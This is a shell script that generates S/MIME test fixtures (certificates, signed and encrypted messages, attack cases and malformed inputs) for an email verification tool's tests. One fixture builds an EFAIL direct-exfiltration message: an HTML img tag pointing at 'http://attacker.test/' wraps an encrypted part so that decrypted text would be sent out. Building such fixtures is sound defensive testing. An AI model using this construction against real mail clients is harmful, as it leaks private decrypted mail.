#!/bin/sh
# Regenerates every certificate and message of tests/data/smime/ with the
# openssl command line and gpgsm (and python3 for byte-level surgery on
# attack messages). Run from anywhere: sh tests/data/mkfixtures.sh
# (FIXTURE_DIR=DIR writes a fresh set there instead, as
# tests/cli/inspect_interop.sh does with the programs installed today).
#
# Certificates and signatures are dated with faketime so that the set is
# the same whenever it is made: the CA and identities are valid from
# 2026-01-01 for twenty years ("expired" ended in 2021, "future" starts in
# 2040), and every signing time is 2026-01-01, the Date of every message.
#
# Every message gets a line in expect.txt:
#     file  signature  encryption  cipher  signer
# read by tests/cli/inspect_fixtures.sh with bob's identity, carol's
# identity and ca.pem as the only anchor ("-" for null).
set -eu
TOP=$(cd "$(dirname "$0")/../.." && pwd)
D=${FIXTURE_DIR:-$TOP/tests/data/smime}
W=$(mktemp -d)
trap 'rm -rf "$W"' EXIT
mkdir -p "$D"
cd "$W"

FT="faketime -f"
NOW='@2026-01-01 00:00:00'
PASS=test

cp "$TOP/tests/data/ext.cnf" ext.cnf
openssl ecparam -name prime256v1 -out p256.pem

# mkca NAME CN
mkca() {
	$FT "$NOW" openssl req -x509 -newkey rsa:2048 -nodes \
	    -keyout "$1.key" -out "$1.pem" -subj "/CN=$2" -days 7300 \
	    -addext basicConstraints=critical,CA:TRUE \
	    -addext keyUsage=critical,keyCertSign,cRLSign 2>/dev/null
}
# mkid NAME EMAIL PROFILE KEYSPEC CA [WHEN DAYS [SUBJECT]]
mkid() {
	openssl req -newkey "$4" -nodes -keyout "$1.key" -out "$1.csr" \
	    -subj "${8:-/CN=$1}" 2>/dev/null
	EMAIL=$2 $FT "${6:-$NOW}" openssl x509 -req -in "$1.csr" \
	    -CA "$5.pem" -CAkey "$5.key" -CAcreateserial -out "$1.pem" \
	    -days "${7:-7300}" -sha256 -extfile ext.cnf -extensions "$3" \
	    2>/dev/null
	rm -f "$1.csr"
}
mkca ca "sealmail test CA"
mkca rogue "rogue CA"
mkid alice alice@example.test rsa rsa:2048 ca
mkid bob bob@example.test rsa rsa:2048 ca
mkid carol carol@example.test ec ec:p256.pem ca
mkid eve eve@example.test rsa rsa:2048 ca
mkid mallory alice@example.test rsa rsa:2048 rogue
mkid expired alice@example.test rsa rsa:2048 ca '@2020-01-01 00:00:00' 365
mkid future alice@example.test rsa rsa:2048 ca '@2040-01-01 00:00:00' 365
mkid server alice@example.test server rsa:2048 ca
mkid weak alice@example.test rsa rsa:1024 ca
# The legacy form: no subjectAltName, the address in the subject only.
mkid legacy alice@example.test legacy rsa:2048 ca '' '' \
    '/CN=legacy/emailAddress=Alice@Example.test'
for n in bob carol alice; do
	openssl pkcs12 -export -in $n.pem -inkey $n.key -out $n.p12 \
	    -passout pass:$PASS -name $n
done

# --- message helpers -----------------------------------------------------
# entity FILE TEXT: a text/plain MIME entity.
entity() {
	printf 'Content-Type: text/plain; charset=utf-8\r\n' >"$1"
	printf 'Content-Transfer-Encoding: 7bit\r\n\r\n%s\r\n' "$2" >>"$1"
}
# hdr FROM SUBJECT: the outer header fields.
hdr() {
	printf 'From: %s\r\nTo: Bob <bob@example.test>\r\n' "$1"
	printf 'Subject: %s\r\nDate: %s\r\n' "$2" \
	    "${DATE:-Thu, 01 Jan 2026 00:00:00 +0000}"
	printf 'Message-ID: <%s@example.test>\r\n' "$(echo "$2" | tr -c 'a-z0-9\n' - | head -c 40)"
}
# crlf: LF line ends become CRLF (CRLF stays).
crlf() { sed 's/\r$//; s/$/\r/'; }
# out NAME SIG ENC CIPHER SIGNER FROM SUBJECT < S/MIME entity
out() {
	{ hdr "$6" "$7"; crlf; } >"$D/$1.eml"
	printf '%s\t%s\t%s\t%s\t%s\n' "$1.eml" "$2" "$3" "$4" "$5" >>expect
}
sign() {	# SIGNER IN [openssl options]: detached, S/MIME out
	s=$1; i=$2; shift 2
	$FT "$NOW" openssl cms -sign -signer $s.pem -inkey $s.key -in "$i" \
	    -md sha256 \
	    "$@"
}
enc() {		# CIPHER IN RECIPIENT... (options before: ENCOPT)
	c=$1; i=$2; shift 2
	for r in "$@"; do set -- "$@" "$r.pem"; shift; done
	openssl cms -encrypt -$c -in "$i" ${ENCOPT:-} "$@"
}
ALICE='Alice <alice@example.test>'
: >expect
entity plain.txt 'This is a test message from Alice to Bob.'
entity fake.txt 'This is a FAKE message NOT from Alice to Bob.'

# --- one per value of signature and encryption ---------------------------
{ hdr "$ALICE" "plain"; cat plain.txt; } >"$D/plain.eml"
printf 'plain.eml\tnone\tnone\t-\t-\n' >>expect
sign alice plain.txt | out sig-valid valid none - alice@example.test \
    "$ALICE" "signed by alice"
sign alice plain.txt -nodetach | out sig-valid-opaque valid none - \
    alice@example.test "$ALICE" "opaque signed by alice"
sign carol plain.txt | out sig-valid-ecdsa valid none - carol@example.test \
    'carol@example.test' "signed by carol (ECDSA)"
sign alice plain.txt -keyopt rsa_padding_mode:pss | out sig-valid-pss \
    valid none - alice@example.test "$ALICE" "signed by alice (RSA-PSS)"
sign legacy plain.txt | out sig-valid-legacy valid none - \
    Alice@Example.test "$ALICE" "signed, address in the subject only"
# invalid: the signed text altered after signing
sign alice plain.txt | sed 's/This is a test message/This is a FAKE message/' |
    out sig-invalid invalid none - alice@example.test "$ALICE" \
    "content altered"
sign mallory plain.txt | out sig-untrusted untrusted none - \
    alice@example.test "$ALICE" "signed under a rogue CA"
sign expired plain.txt | out sig-expired untrusted none - \
    alice@example.test "$ALICE" "expired certificate"
sign future plain.txt | out sig-notyet untrusted none - \
    alice@example.test "$ALICE" "certificate not yet valid"
sign server plain.txt | out sig-wrong-eku untrusted none - \
    alice@example.test "$ALICE" "certificate for servers only"
sign weak plain.txt | out sig-rsa1024 untrusted none - \
    alice@example.test "$ALICE" "RSA key of 1024 bits"
sign alice plain.txt -md sha1 | out sig-sha1 untrusted none - \
    alice@example.test "$ALICE" "SHA-1 digest"
sign eve plain.txt | out sig-mismatch mismatch none - eve@example.test \
    "$ALICE" "signed by eve, From alice"
sign alice plain.txt | out sig-display-name mismatch none - \
    alice@example.test '"bob@example.test" <alice@example.test>' \
    "display name shows another address"
# A Date six hours from the signing time (a replayed or redated message):
# the signer is still the sender; a finding says how far apart they are
sign alice plain.txt | (DATE='Thu, 01 Jan 2026 06:00:00 +0000'
    out sig-date-mismatch valid none - alice@example.test "$ALICE" \
    "Date far from the signing time")

# error: a digest no one knows (SHA-256's OID with its last arc changed),
# in both the digest set and the SignerInfo: nothing can be checked.
sign alice plain.txt -outform DER -binary >err.der
python3 - err.der <<'EOF'
import sys
p = sys.argv[1]; d = open(p, 'rb').read()
sha256 = bytes.fromhex('608648016503040201')
d = d.replace(sha256, bytes.fromhex('60864801650304027f'))
open(p, 'wb').write(d)
EOF
signed_mp() {	# ENTITY DER: a multipart/signed of the two
	b=sealmail-fixture-$(basename "$2" .der)
	printf 'MIME-Version: 1.0\r\nContent-Type: multipart/signed; '
	printf 'protocol="application/pkcs7-signature"; micalg=sha-256; '
	printf 'boundary="%s"\r\n\r\n--%s\r\n' "$b" "$b"
	cat "$1"
	printf '\r\n--%s\r\nContent-Type: application/pkcs7-signature; ' "$b"
	printf 'name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n'
	printf 'Content-Disposition: attachment; filename=smime.p7s\r\n\r\n'
	openssl base64 -in "$2"
	printf '\r\n--%s--\r\n' "$b"
}
signed_mp plain.txt err.der | out sig-error error none - alice@example.test \
    "$ALICE" \
    "unknown digest algorithm"

# partial: a signed part wrapped in unsigned content (MIME wrapping)
sign alice plain.txt >inner.eml
{
	printf 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; '
	printf 'boundary="wrap"\r\n\r\n--wrap\r\n'
	cat fake.txt
	printf '\r\n--wrap\r\n'
	crlf <inner.eml
	printf '\r\n--wrap--\r\n'
} | out sig-partial partial none - alice@example.test "$ALICE" \
    "signed part wrapped in unsigned text"

# encryption: decrypted (GCM and CBC, RSA and ECDH), undecryptable, partial
enc aes-256-gcm plain.txt bob alice | out enc-gcm256 none decrypted \
    aes-256-gcm - "$ALICE" "AES-256-GCM to bob"
enc aes-128-gcm plain.txt carol alice | out enc-gcm128-ecdh none decrypted \
    aes-128-gcm - "$ALICE" "AES-128-GCM to carol (ECDH)"
enc aes-256-cbc plain.txt bob alice | out enc-cbc256 none decrypted \
    aes-256-cbc - "$ALICE" "AES-256-CBC to bob"
enc aes-128-cbc plain.txt carol | out enc-cbc128-ecdh none decrypted \
    aes-128-cbc - "$ALICE" "AES-128-CBC to carol (ECDH)"
enc aes-256-gcm plain.txt alice | out enc-nokey none undecryptable \
    aes-256-gcm - "$ALICE" "encrypted to alice only"
# RFC 8551 3.2.2: application/octet-stream named .p7m / .p7s
enc aes-256-gcm plain.txt bob alice |
    sed 's/^Content-Type: application\/pkcs7-mime;.*/Content-Type: application\/octet-stream; name="smime.p7m"/' |
    out enc-octet-stream none decrypted aes-256-gcm - "$ALICE" \
    "envelope sent as application/octet-stream"
sign alice plain.txt |
    sed 's/^Content-Type: application\/pkcs7-signature; name="smime.p7s"/Content-Type: application\/octet-stream; name="smime.p7s"/' |
    out sig-octet-stream valid none - alice@example.test "$ALICE" \
    "signature sent as application/octet-stream"
# tampered GCM: the last byte of the tag flipped
ENCOPT='-outform DER' enc aes-256-gcm plain.txt bob >gcm.der
python3 - gcm.der <<'EOF'
import sys
p = sys.argv[1]; d = bytearray(open(p, 'rb').read())
d[-1] ^= 0x01
open(p, 'wb').write(bytes(d))
EOF
pkcs7_mime() {	# TYPE DER
	printf 'MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; '
	printf 'smime-type=%s; name=smime.p7m\r\n' "$1"
	printf 'Content-Transfer-Encoding: base64\r\n'
	printf 'Content-Disposition: attachment; filename=smime.p7m\r\n\r\n'
	openssl base64 -in "$2"
}
pkcs7_mime authEnveloped-data gcm.der | out enc-gcm-tampered none \
    undecryptable aes-256-gcm - "$ALICE" "AES-GCM tag altered"
# partial (EFAIL direct exfiltration): an envelope among clear parts
entity secret.txt 'SECRET-TEXT the attacker wants to steal'
ENCOPT='-outform DER' enc aes-256-cbc secret.txt bob >prey.der
{
	printf 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; '
	printf 'boundary="efail"\r\n\r\n--efail\r\n'
	printf 'Content-Type: text/html\r\n\r\n<img src="http://attacker.test/'
	printf '\r\n--efail\r\n'
	pkcs7_mime enveloped-data prey.der
	printf '\r\n--efail\r\nContent-Type: text/html\r\n\r\n">\r\n'
	printf '\r\n--efail--\r\n'
} | out enc-partial-efail none partial aes-256-cbc - "$ALICE" \
    "EFAIL: an envelope between clear parts"

# --- nestings -----------------------------------------------------------
sign alice plain.txt >s.eml
crlf <s.eml >s.ent
enc aes-256-gcm s.ent bob alice | out nest-sign-encrypt valid decrypted \
    aes-256-gcm alice@example.test "$ALICE" "signed, then encrypted"
enc aes-256-cbc plain.txt bob alice >e.eml
crlf <e.eml >e.ent
sign alice e.ent | out nest-encrypt-sign none decrypted aes-256-cbc - \
    "$ALICE" "encrypted, then signed (signs ciphertext only)"
enc aes-256-gcm s.ent bob alice >se.eml
crlf <se.eml >se.ent
sign alice se.ent | out nest-triple valid decrypted aes-256-gcm \
    alice@example.test "$ALICE" "triple wrap"
sign alice plain.txt -nodetach >o.eml
crlf <o.eml >o.ent
enc aes-128-gcm o.ent carol alice | out nest-opaque-encrypt-ecdh valid \
    decrypted aes-128-gcm alice@example.test "$ALICE" \
    "opaque signed, then encrypted to carol"

# CompressedData (RFC 3274), which openssl here cannot make (no zlib):
# the DER is written by python3's zlib and mkbombs.py's DER writer.
compress() {	# IN OUT.der
	python3 - "$1" "$2" "$TOP/tests/data" <<'EOF2'
import sys, zlib
sys.dont_write_bytecode = True
sys.path.insert(0, sys.argv[3])
from mkbombs import compressed_der
data = open(sys.argv[1], 'rb').read()
open(sys.argv[2], 'wb').write(compressed_der(zlib.compress(data, 9)))
EOF2
}
compress plain.txt cmp.der
pkcs7_mime compressed-data cmp.der | out cmp-plain none none - - "$ALICE" \
    "compressed"
compress s.ent cmps.der
pkcs7_mime compressed-data cmps.der | out cmp-signed valid none - \
    alice@example.test "$ALICE" "signed, then compressed"

# --- attack classes -------------------------------------------------------
# C1: a SignedData with its own eContent, under a different detached text
sign alice fake.txt -nodetach -outform DER -binary >c1.der
signed_mp plain.txt c1.der | out att-econtent invalid none - - "$ALICE" \
    "eContent beside the detached content"
# C2: two signers, the second one's signature value broken
$FT "$NOW" openssl cms -sign -in plain.txt -md sha256 -signer alice.pem \
    -inkey alice.key -signer eve.pem -inkey eve.key -outform DER \
    >c2.der
python3 - c2.der <<'EOF'
import sys
p = sys.argv[1]; d = bytearray(open(p, 'rb').read())
tag = bytes.fromhex('04820100')	# OCTET STRING of 256: an RSA signature
i = d.rfind(tag)
assert i > 0 and d.find(tag) != i
d[i + 4 + 100] ^= 0x55
open(p, 'wb').write(bytes(d))
EOF
signed_mp plain.txt c2.der | out att-two-signers-one-bad invalid none - \
    alice@example.test "$ALICE" "two signers, one fails"
# C3: no SignerInfo at all (a certificates-only SignedData)
openssl crl2pkcs7 -nocrl -certfile alice.pem -outform DER >c3.der
signed_mp plain.txt c3.der | out att-no-signers invalid none - - "$ALICE" \
    "no signers"
# C4: a signer chaining to nothing trusted (self-made CA): as
# sig-untrusted, with the rogue CA sent along in the message
sign mallory plain.txt -certfile rogue.pem | out att-rogue-chain \
    untrusted none - alice@example.test "$ALICE" \
    "chain to an untrusted CA sent along"
# I1: signer is not From
sign eve plain.txt | out att-not-from mismatch none - eve@example.test \
    "$ALICE" "signer is not the From address"
# Two From header fields
sign alice plain.txt | { printf 'From: Eve <eve@example.test>\r\n'; cat; } |
    out att-two-from mismatch none - alice@example.test "$ALICE" \
    "two From header fields"

# --- made by gpgsm --------------------------------------------------------
export GNUPGHOME="$W/gnupg"
mkdir -m 700 "$GNUPGHOME"
printf 'disable-crl-checks\ndisable-policy-checks\ndisable-dirmngr\n' \
    >"$GNUPGHOME/gpgsm.conf"
printf 'allow-loopback-pinentry\n' >"$GNUPGHOME/gpg-agent.conf"
echo "$(openssl x509 -in ca.pem -noout -fingerprint -sha1 | sed 's/.*=//') S" \
    >"$GNUPGHOME/trustlist.txt"
echo $PASS >pw
openssl pkcs12 -export -in alice.pem -inkey alice.key -out alice-3des.p12 \
    -passout file:pw -certpbe PBE-SHA1-3DES -keypbe PBE-SHA1-3DES \
    -macalg sha1
# The agent is started here, and waited for (up to 20 s): gpgsm starting
# it itself gives up sooner than a loaded machine may take. What gpgsm
# says goes to stderr, so that a failure shows why.
gpgconf --launch gpg-agent
i=0
until gpg-connect-agent --no-autostart /bye >/dev/null 2>&1; do
	i=$((i + 1))
	if [ $i -ge 200 ]; then
		echo "mkfixtures: gpg-agent did not start" >&2
		exit 1
	fi
	sleep 0.1
done
gpgsm --batch --import ca.pem bob.pem
gpgsm --batch --pinentry-mode loopback --passphrase-fd 0 \
    --import alice-3des.p12 <pw
$FT "$NOW" gpgsm --batch --pinentry-mode loopback --passphrase-fd 0 \
    --detach-sign \
    -u alice@example.test plain.txt <pw \
    >g.sig
signed_mp plain.txt g.sig | out gpgsm-signed valid none - \
    alice@example.test "$ALICE" "signed by gpgsm"
gpgsm --batch --cipher-algo AES256 --encrypt -r bob@example.test \
    plain.txt >g.p7m
pkcs7_mime enveloped-data g.p7m | out gpgsm-encrypted none decrypted \
    aes-256-cbc - "$ALICE" "encrypted by gpgsm"
signed_mp plain.txt g.sig >gs.ent
gpgsm --batch --cipher-algo AES256 --encrypt -r bob@example.test \
    gs.ent >gs.p7m
pkcs7_mime enveloped-data gs.p7m | out gpgsm-sign-encrypt valid decrypted \
    aes-256-cbc alice@example.test "$ALICE" \
    "signed, then encrypted by gpgsm"
gpgconf --kill all 2>/dev/null || true

# --- malformed input (judged: exit 0 or 1, never valid) --------------------
M=$D/malformed
mkdir -p "$M"
: >"$M/empty.eml"
head -c 4096 /dev/urandom >"$M/random.eml"
# the signature's base64 cut in half; the boundaries left intact
{ hdr "$ALICE" "truncated base64"; sign alice plain.txt | crlf; } |
python3 -c '
import sys
d = sys.stdin.buffer.read()
i = d.index(b"Content-Disposition: attachment")
j = d.index(b"\r\n\r\n", i) + 4
k = d.index(b"\r\n\r\n", j)
sys.stdout.buffer.write(d[:j] + d[j:j + (k - j) // 2 + 1] + d[k:])
' >"$M/truncated-base64.eml"
# a signed message cut inside its signature
{ hdr "$ALICE" "cut"; sign alice plain.txt | crlf | head -c 1500; } \
    >"$M/cut-in-signature.eml"
{ hdr "$ALICE" "no closing boundary"; sign alice plain.txt | crlf |
    grep -v -- '^------.*--' ; } >"$M/no-closing-boundary.eml"
# a Date whose zone would overflow a naive computation
{ hdr "$ALICE" "huge zone" | sed 's/+0000/+1535817900/'; cat plain.txt; } \
    >"$M/huge-date-zone.eml"
python3 - "$M" <<'EOF'
import os, sys
m = sys.argv[1]
h = b'From: alice@example.test\r\nSubject: '
open(os.path.join(m, 'long-header.eml'), 'wb').write(
    h + b'x' * 200 * 1024 + b'\r\n\r\nbody\r\n')
n = 500
s = b'From: alice@example.test\r\nSubject: nested\r\n'
body = b''
for i in range(n):
    body += b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (i, i)
body += b'Content-Type: text/plain\r\n\r\ndeep\r\n'
for i in reversed(range(n)):
    body += b'\r\n--b%d--\r\n' % i
open(os.path.join(m, 'nested-500.eml'), 'wb').write(s + body)
EOF

# --- keep ------------------------------------------------------------------
for f in ca rogue alice bob carol eve mallory expired future server weak \
    legacy; do
	cp $f.pem "$D/$f.pem"
done
for f in bob carol alice; do
	cp $f.key "$D/$f.key"
	cp $f.p12 "$D/$f.p12"
done
chmod 600 "$D"/*.key "$D"/*.p12
echo $PASS >"$D/p12-passphrase" && chmod 600 "$D/p12-passphrase"
{
	echo "# file	signature	encryption	cipher	signer"
	cat expect
} >"$D/expect.txt"
echo "fixtures written to $D"
